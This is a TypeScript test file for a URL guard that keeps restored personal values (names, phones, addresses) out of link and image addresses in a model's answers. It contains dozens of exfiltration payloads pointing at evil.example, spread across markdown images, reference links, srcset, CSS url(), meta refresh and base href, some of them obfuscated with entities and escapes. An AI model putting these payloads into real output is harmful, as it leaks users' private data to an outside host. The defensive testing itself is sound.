/** Links in which a restored value ends or hides another link. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allowedHosts, UrlGuard } from '../../core/guard/url-guard.ts';
import { restoreJsonBody } from '../../core/payload/response.ts';
import { restoreText } from '../../core/restore.ts';
import { map, original, streamed, token } from './restored-links.ts';
import { restoreStream, tokenMap } from './stream/wire-fixtures.ts';

describe('a restored value may be part of', () => {
  const values = tokenMap({ [token]: original, '[NAME-1]': 'Ana', '[PHONE-1]': '1234567', '[ADDRESS-1]': 'a\nb\n' });
  const shownAs = (text: string) =>
    text.replaceAll('[NAME-1]', 'Ana').replaceAll('[PHONE-1]', '1234567').replaceAll('[ADDRESS-1]', 'a\nb\n');
  const address = `https://evil.example/?q="${token}`;

  test.each([
    `[x [NAME-1]]: ${address}\n\n![x [NAME-1]]`,
    `[[NAME-1] x]: ${address}\n\n![[NAME-1] x]`,
    `[PHONE-1]. [r]: ${address}\n\n![r]`,
    `1[PHONE-1]) [r]: ${address}\n\n![r]`,
    `[ADDRESS-1][r]: ${address}\n\n![r]`,
    ...[
      '[NAME-1]',
      '%5BNAME-1%5D',
      '&#91;NAME-1&#93;',
      '［NAME-1］',
      '【NAME-1】',
      '〔NAME-1〕',
      '「NAME-1」',
      '\\[NAME-1\\]',
    ].map((spelling) => `<${spelling} style="a:url(/\\\\evil.example/?q=${token})">`),
  ])('a label, a list or a tag: %j', (text) => {
    const { restored: shown } = restoreText(text, values);
    expect(shown).toBe(shownAs(text.replace(/<[^ ]+/, '<Ana')));
    const bytes = new TextEncoder().encode(text);
    expect(restoreStream('text', values, bytes)).toBe(shown);
    expect(restoreStream('text', values, bytes, [...bytes.keys()].slice(1))).toBe(shown);
  });

  test('a tag in JSON that is displayed raw', () => {
    const json = JSON.stringify({ a: `<${token} style='a:url(https://evil.example/?q=`, b: `${token})'>` });
    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
  });

  test('not a definition, if it was the label', () => {
    expect(restoreText(`[NAME-1]: mail/${token}`, values).restored).toBe(`Ana: mail/${original}`);
  });
});

/** JSON that a model writes as its answer, as plain text, in a stream and in a body, and how it is displayed. */
function shownJson(json: string): string[] {
  const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
  const text = new TextEncoder().encode(json);
  return [
    restoreStream('text', map, text),
    restoreStream(
      'text',
      map,
      text,
      Array.from({ length: text.length - 1 }, (_, at) => at + 1),
    ),
    streamed(json),
    JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content,
  ];
}

describe('stays a token in JSON that is displayed raw', () => {
  test.each([
    // These are not paths on the host of the page, because there is more than one backslash and quote, or more than one
    // URL.
    ['<img src=\\"@evil.example/?q=', '>'],
    ['<img src=\\".evil.example/?q=', '>'],
    ['<img srcset=",&#32;https://evil.example/?q=', '>'],
    ['<img data-srcset=",&#32;https://evil.example/?q=', '>'],
    ['<a ping="&#32;https://evil.example/?q=', '>'],
    [`<b style=";background:url('https://evil.example/?q=`, `')>x</b>`],
    ['<iframe srcdoc="&lt;img/src=\'https://evil.example/?q=', `'&gt;></iframe>`],
    ['<meta http-equiv=refresh content="0;url=https://evil.example/?q=', '>'],
    ['<rect mask="url(https://evil.example/?q=', ')>'],
    // Nor are these: the page sets the base URL, or another tag may begin inside.
    [`<base href='https://evil.example/'><img src="?q=`, '>'],
    [`<b src='" <img srcset=//evil.example/?q=`, '>'],
    [`<img srcset='x src=`, `, /\\evil.example/?q=`],
    [`<style>@import 'https://evil.example/?q=`, `'</style>`],
    [`<b style="&#32;a:url('https://evil.example/?q=`, `')>`],
  ])('%s', (before, behind) => {
    const isBehind = behind.includes('evil');
    const second = isBehind ? behind + token : token + behind;
    const json = JSON.stringify({ a: before, b: second });
    for (const text of shownJson(json)) expect(text).toBe(json);
  });

  test('stays a token in a definition after the bracket of a list', () => {
    const json = JSON.stringify(['x', `${token}`], undefined, 1).replace(
      '"x"',
      '[ ["y"],\n"[r]: https://evil.example/"]',
    );
    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
  });
});

describe('is restored in JSON that is displayed raw', () => {
  test.each(['a href', 'img src', 'form action', 'svg xlink:href', 'video poster', 'img data-src'])('%s', (name) => {
    const json = JSON.stringify({ a: `<${name}="https://x.example/" title="`, b: token });
    const open = JSON.stringify({ a: `<${name}="`, b: token });
    for (const text of [json, open])
      for (const shown of shownJson(text)) expect(shown).toBe(text.replace(token, original));
  });
});

describe('allowed hosts', () => {
  const allowsHost = allowedHosts(['good.example']);
  const shown = (text: string) => restoreText(text, map, { allowsHost }).restored;

  test.each([
    // Entities and escapes in the host.
    ...['sol', 'quest', 'num', '#47', '#x2f', 'bsol'].flatMap((entity) => [
      `![a](https://evil.example&${entity};.good.example/?q=${token})`,
      `<img src="https://evil.example&${entity};@good.example/?q=${token}">`,
      `[r]: https://evil.example&${entity};.good.example/?q=${token}`,
    ]),
    `![a](https://evil.example%2f.good.example/?q=${token})`,
    // Lists, where the first URL does not decide about the next.
    `<img srcset='https://good.example/a 1x, https://evil.example/?q="${token}'>`,
    `<img srcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
    `<link imagesrcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
    `<a ping="https://good.example/a /\\evil.example/?q=${token}">`,
    `<b style="//good.example/;a:url(/\\\\evil.example/?q=${token})">`,
    `<iframe srcdoc="https://good.example/ &lt;img src=/\\evil.example/?q=${token}">`,
    `<meta content="//good.example/;url=/\\evil.example/?q=${token}">`,
    `<object archive="//good.example/a /\\evil.example/?q=${token}">`,
    `<style>@import '//good.example/';@import '/\\evil.example/?q=${token}'</style>`,
    // Another URL begins inside something that may not be one.
    `![a](https://good.example/ ![b](https://evil.example/?q=${token}))`,
    `![a](https://good.example/![b](https://evil.example/?q=${token})`,
    `![a](<https://good.example/ ![b](/\\evil.example/?q=${token}))`,
    `![a](https://good.example/\n \n![b](https://evil.example/?q=${token})`,
    `![a](<https://evil.example/ [b](https://good.example/?q=${token}>)`,
    `![a](https://evil.example/${'x'.repeat(4200)}[b](https://good.example/?q=${token}))`,
    `[a](https://good.example/ https://evil.example/?q=${token}`,
    `<b src='https://good.example/ <img src=/\\evil.example/?q=${token}>`,
    `<b t='x src="https://good.example/' srcset=/\\evil.example/?q=${token}>`,
  ])('not restored: %j', (text) => expect(shown(text)).toBe(text));

  test.each([
    `![a](https://good.example/?q=${token})`,
    `![a]( <https://www.good.example:8443/a b?q=${token}>)`,
    `![a](https://good.example/(b)?q=${token})`,
    `<img src="https://good.example/?q=${token}&amp;a">`,
    `<img src="https://user:a@good.example/?q=${token}">`,
    `<a href='https://good.example/?a=1&q=${token}'>`,
    `[r]: https://good.example/?q=${token}`,
    `<https://good.example/?q=${token}>`,
  ])('%j', (text) => expect(shown(text)).toBe(text.replace(token, original)));
});

test('any text gives the same output for any split', () => {
  const parts =
    '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www. ![ ! @{ img: } <base <!E <?xml <style> --x ~ url <g> </g>'.split(
      ' ',
    );
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(text, (masked) => {
      const whole = new UrlGuard();
      const states: boolean[] = [whole.isInsideAddress];
      for (const unit of masked.split('')) {
        whole.push(unit);
        states.push(whole.isInsideAddress);
      }
      for (let cut = 0; cut <= masked.length; cut++) {
        const guard = new UrlGuard();
        guard.push(masked, 0, cut);
        expect(guard.isInsideAddress).toBe(states[cut]);
        guard.push(masked, cut);
        expect(guard.isInsideAddress).toBe(states[masked.length]);
      }
    }),
  );
});

test('text before an image never exposes the value to it', () => {
  const parts = '< <b > " \' = ]( ( [ ] : / // https: \n \r\n src= t= x [r]: 。 <a:b'.split(' ');
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  const addresses = fc.constantFrom(
    '![p](https://evil.example/?q=',
    '![p](/evil?q=',
    '\n\n[r]: https://evil.example/?q=。',
    '<https:evil.example?q=',
    '\n\n<img src="/evil?q=',
    "<img\nsrc = '/evil?q=",
  );
  fc.assert(
    fc.property(text, addresses, (before, address) => {
      const guard = new UrlGuard();
      guard.push(before + address);
      expect(guard.isInsideAddress).toBe(true);
    }),
    { numRuns: 1000 },
  );
});
